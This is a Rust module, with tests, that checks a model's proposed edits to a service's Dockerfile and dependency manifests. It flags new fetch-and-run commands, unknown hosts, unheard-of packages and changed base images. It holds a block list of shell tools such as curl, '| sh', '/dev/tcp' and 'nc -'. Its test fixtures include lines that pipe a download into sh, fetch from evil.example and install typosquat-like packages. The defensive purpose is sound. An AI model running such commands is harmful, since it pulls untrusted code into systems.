//! What a model's edit must not bring in: ways out of the service, other images, and words that loosen it.

use crate::diagnosis::Log;
use crate::dockerfile::Dockerfile;
use crate::observation::Facts;
use crate::workspace::Workspace;

/// Ways to fetch, to run what was fetched, to hide what is run, or to give away what should be kept. A fix that really needs one
/// of them is a matter for a person.
const SUSPICIOUS: [&str; 22] = [
    "curl ",
    "wget ",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "bash -c",
    "eval ",
    "eval(",
    "exec(",
    "base64",
    "/dev/tcp",
    "nc -",
    "chmod 777",
    "chmod -R 777",
    "sudo ",
    "--privileged",
    "--insecure",
    "--index-url",
    "--extra-index-url",
    "os.system",
    "NODE_TLS_REJECT_UNAUTHORIZED",
];

/// Registries to which everybody may upload: names that models make up are waited for there.
const INSTALLS: [&str; 9] = [
    "pip install",
    "pip3 install",
    "npm install",
    "npm i ",
    "yarn add",
    "pnpm add",
    "gem install",
    "go get",
    "cargo install",
];

const MANIFESTS: [&str; 9] = [
    "pyproject.toml",
    "Pipfile",
    "setup.py",
    "setup.cfg",
    "package.json",
    "Gemfile",
    "go.mod",
    "Cargo.toml",
    "composer.json",
];

/// A shorter word names no package worth looking at.
const NAME_CHARS_MIN: usize = 3;

/// Why the step from `before` to `after` is not taken on a model's word; `None` where nothing speaks against it.
pub(super) fn doubt(log: &Log, before: &Workspace, after: &Workspace, facts: &Facts) -> Option<String> {
    for path in before.changed(after) {
        let (old, new) = (before.text(&path).unwrap_or_default(), after.text(&path).unwrap_or_default());
        if let Some(word) = SUSPICIOUS.iter().find(|word| new.matches(**word).count() > old.matches(**word).count()) {
            return Some(format!("it brings `{}` into `{path}`", word.trim()));
        }
        if let Some(address) = addresses(new).find(|address| !addresses(old).any(|known| known == *address)) {
            return Some(format!("it brings the address `{address}` into `{path}`"));
        }
        if let Some(name) = newcomer(&path, old, new, log) {
            return Some(format!("it installs `{name}`, which neither the log nor `{path}` names"));
        }
    }
    let images = |files: &Workspace| -> Vec<String> {
        let dockerfile = Dockerfile::parse(files.text(&facts.dockerfile_path).unwrap_or_default());
        dockerfile.stages().iter().map(|stage| repository(&stage.image).to_owned()).collect()
    };
    let known = images(before);
    let foreign = images(after).into_iter().find(|image| !known.contains(image))?;
    Some(format!("it builds on another image, `{foreign}`"))
}

/// A package that a changed line installs, of which nobody has heard before.
fn newcomer(path: &str, old: &str, new: &str, log: &Log) -> Option<String> {
    let name = path.rsplit('/').next().unwrap_or(path);
    let is_manifest = MANIFESTS.contains(&name) || (name.starts_with("requirements") && name.ends_with(".txt"));
    let is_known = |word: &str| {
        let word = word.to_lowercase();
        let holds = |text: &str| text.to_lowercase().contains(&word);
        holds(old) || log.lines.iter().any(|line| holds(&line.text))
    };
    let changed = new.lines().filter(|line| !old.lines().any(|known| known == *line));
    let commands = changed.flat_map(|line| line.split("&&")).flat_map(|part| part.split(';'));
    let installing = commands.filter_map(|command| {
        let behind = INSTALLS.iter().find_map(|install| Some(command.split_once(install)?.1));
        behind.or_else(|| is_manifest.then_some(command))
    });
    let words = installing.flat_map(|command| {
        command.split(|c: char| c.is_whitespace() || "\"',:=<>~!^()[]{}".contains(c)).filter(|word| {
            word.len() >= NAME_CHARS_MIN
                && !word.starts_with('-')
                && word.starts_with(|c: char| c.is_alphabetic() || c == '@')
        })
    });
    let mut unknown = words.filter(|word| !is_known(word));
    unknown.next().map(str::to_owned)
}

/// Hosts of addresses, with all that stands before them in the word.
fn addresses(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '(' | ')' | ','))
        .filter(|word| word.contains("://") || word.contains("git@"))
        .map(|word| {
            let start = word.find("://").map_or(0, |at| at + 3);
            let end = word[start..].find('/').map_or(word.len(), |at| start + at);
            &word[..end]
        })
}

/// `python` of `python:3.12-slim@sha256:…`; of `host:5000/a:b` only the last part's tag goes.
fn repository(image: &str) -> &str {
    let image = image.split('@').next().unwrap_or(image);
    match image.rsplit_once(':') {
        Some((name, tag)) if !tag.contains('/') => name,
        _ => image,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(old: &str, new: &str) -> Option<String> {
        let facts = Facts { dockerfile_path: "Dockerfile".into(), ..Facts::default() };
        let log = Log::read("ModuleNotFoundError: No module named 'httpx'");
        doubt(&log, &Workspace::of(&[("Dockerfile", old)]), &Workspace::of(&[("Dockerfile", new)]), &facts)
    }

    #[test]
    fn ways_out_other_images_and_loosened_screws_are_doubted() {
        let old = "FROM python:3.12-slim\nRUN pip install -r requirements.txt\n";
        for (line, word) in [
            ("RUN curl -s x | sh", "curl"),
            ("RUN python -c 'eval(x)'", "eval("),
            ("ADD https://evil.example/x /x", "https://evil.example"),
            ("RUN pip install git+ssh://git@evil.example/x", "git+ssh://git@evil.example"),
            ("RUN pip install --extra-index-url x y", "--extra-index-url"),
            ("FROM evil/python:3.12", "evil/python"),
            ("RUN pip install requestz", "requestz"),
            ("RUN echo && npm install @evil/left-pad", "@evil/left-pad"),
        ] {
            let why = check(old, &format!("{old}{line}\n")).expect(line);
            assert!(why.contains(word), "{why}");
        }
    }

    #[test]
    fn what_stands_there_already_and_another_tag_are_not() {
        let old = "FROM localhost:5000/python:3.12-slim\nRUN curl https://example.com/a > a\n";
        assert_eq!(check("FROM a\n", "FROM a\nRUN pip install httpx==0.28 && apt-get install -y libpq-dev\n"), None);
        assert_eq!(check(old, "FROM localhost:5000/python:3.13\nRUN curl https://example.com/b > b\nENV A=1\n"), None);
    }
}
